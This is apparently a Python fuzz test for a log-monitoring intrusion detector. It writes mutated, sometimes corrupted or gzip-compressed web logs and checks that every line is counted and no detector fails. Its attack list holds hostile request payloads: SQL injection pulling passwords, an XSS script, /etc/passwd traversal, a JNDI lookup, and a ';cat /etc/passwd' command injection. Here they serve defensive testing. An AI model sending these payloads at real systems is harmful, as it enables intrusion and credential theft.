"""Mutated logs of mixed formats through a whole watch: nothing fails, and every line is counted."""

from __future__ import annotations

import gzip
import random
import re
import time
from collections.abc import Mapping, Sequence
from functools import cache
from pathlib import Path

import msgspec
from log_lines import LINES_A_CASE, mutated_line

from vedette.detectors.interface import StreamDetector
from vedette.response.incidents import Book
from vedette.sources.logs.opening import replay
from vedette.stream.declared import Declared, DeclaredLocator
from vedette.stream.interface import Alerted, Ended, Event, Faulted, Hit, Parts, Task
from vedette.stream.memory import BriefMemory
from vedette.stream.opening import Silent, stream_detectors
from vedette.stream.watch import watch

_HUGE = 64 * 1024 * 1024
_STAMP = re.compile(rb"\d\d/\w\w\w/\d{4}:\d\d:\d\d:\d\d|\d{4}-\d\d-\d\d[T\t ]\d\d:\d\d:\d\d")
_TARGET = re.compile(rb"(GET|POST) \S+")
_ATTACKS = (
    b"/?q=%27%20union%20select%20name,pass%20from%20users--%20",
    b"/?q=%3Cscript%3Ealert(1)%3C/script%3E",
    b"/..%2f..%2f..%2fetc/passwd",
    b"/?x=$%7Bjndi:ldap://x.example/a%7D",
    b"/?a=;cat%20/etc/passwd",
    b"/" + b"%2e" * 4000,
    b"/?" + b"&".join(b"a%d=%%27" % number for number in range(500)),
    b"/?q=" + b"%25" * 3000 + b"27",
    b"/?q=" + b"(select(" * 800,
)


def watched(chance: random.Random, room: Path) -> None:
    """Some logs, now and then compressed and broken, with a line of 64 MB, zeros or a clock that jumps."""
    logs = {f"{place}.log": _log(chance) for place in range(chance.choice((1, 1, 2)))}
    paths, whole = [], {}
    for name, data in logs.items():
        path = room / name
        path.unlink(missing_ok=True)
        packed, sound = _packed(chance, data)
        path.write_bytes(packed)
        paths.append(path)
        if sound:
            whole[str(path)] = data.count(b"\n") + (not data.endswith(b"\n") and bool(data))
    _check(_events(paths), whole)


def _log(chance: random.Random) -> bytes:
    lines = [_moved(chance, mutated_line(chance)) for _ in range(LINES_A_CASE)]
    for _ in range(chance.randrange(4)):
        place = chance.randrange(len(lines))
        target = chance.choice(_ATTACKS)
        lines[place] = _TARGET.sub(rb"\1 " + target, lines[place], count=1)
    kind = chance.randrange(200)
    if kind == 0:
        lines[chance.randrange(len(lines))] += chance.choice((b"A", b"\0", b"%27 or 1=1 ", b'"')) * (
            _HUGE // 8
        )
    elif kind == 1:
        lines[chance.randrange(len(lines))] = b"x" * _HUGE
    elif kind < 20:
        lines.insert(chance.randrange(len(lines)), b"\0" * chance.choice((1, 4096, 70_000, 300_000)))
    return b"\n".join(lines) + chance.choice((b"", b"\n"))


def _moved(chance: random.Random, line: bytes) -> bytes:
    """A line at a moment of its own, hours and years before or after the one before it."""
    if chance.random() < 0.6:
        return line
    moment = time.gmtime(chance.choice((0, 1, 1.7e9, 1.795e9, 4e9)) + chance.randrange(10**7))
    shape = "%d/%b/%Y:%H:%M:%S" if chance.getrandbits(1) else "%Y-%m-%dT%H:%M:%S"
    return _STAMP.sub(time.strftime(shape, moment).encode(), line, count=1)


def _packed(chance: random.Random, data: bytes) -> tuple[bytes, bool]:
    """A log as it lies on the disk, and whether every line of it can be had."""
    kind = chance.randrange(10)
    if kind > 2:
        return data, not data.startswith((b"\x1f\x8b", b"BZh", b"\xfd7zXZ\0", b"\x28\xb5\x2f\xfd"))
    packed = gzip.compress(data, 1)
    if kind == 0:
        return packed, len(data) < _HUGE
    broken = bytearray(packed)
    if kind == 1:
        del broken[chance.randrange(len(broken)) :]
    else:
        broken[chance.randrange(10, len(broken))] ^= 1 << chance.randrange(8)
    return bytes(broken), False


def _events(paths: Sequence[Path]) -> list[Event]:
    declared = Declared(())
    detectors = _detectors()
    for detector in detectors.values():
        detector.restore(b"")
    parts = Parts(
        open=lambda _: replay([str(path) for path in paths], lambda: None),
        recogniser=declared,
        detectors=detectors,
        wait=lambda _: None,
        stopped=lambda: False,
        locator=DeclaredLocator(declared),
        book=Book(),
        memory=BriefMemory(),
        teller=Silent(),
    )
    return list(watch(Task(replay=True, checkpoint=0.0), parts))


def _check(events: Sequence[Event], whole: Mapping[str, int]) -> None:
    ended = events[-1]
    assert isinstance(ended, Ended), "it did not end"
    assert not ended.missed, f"canaries missed: {ended.missed}"
    for path, counts in ended.counts.items():
        assert counts.agree, f"{path}: {counts.given} lines given, {counts.read} read"
        assert not counts.failed, f"{path}: a detector failed"
        assert path not in whole or counts.given == whole[path], (
            f"{path}: {counts.given} of {whole[path]} lines"
        )
    assert all(path in ended.counts for path, lines in whole.items() if lines), "a log is not in the account"
    for event in events:
        if isinstance(event, Faulted):
            assert event.trouble.reason != "detector-failed", event.trouble.detail
        elif isinstance(event, Hit):
            shown = event.detection.evidence + event.detection.path + event.detection.client
            assert len(event.detection.evidence) <= 200, "longer than asked for"
            assert not re.search(r"[\x00-\x1f\x7f\u202a-\u202e\u2066-\u2069]", shown), "a character acts"
        elif isinstance(event, Alerted):
            msgspec.json.encode(event.news)


@cache
def _detectors() -> dict[str, StreamDetector]:
    return stream_detectors({})
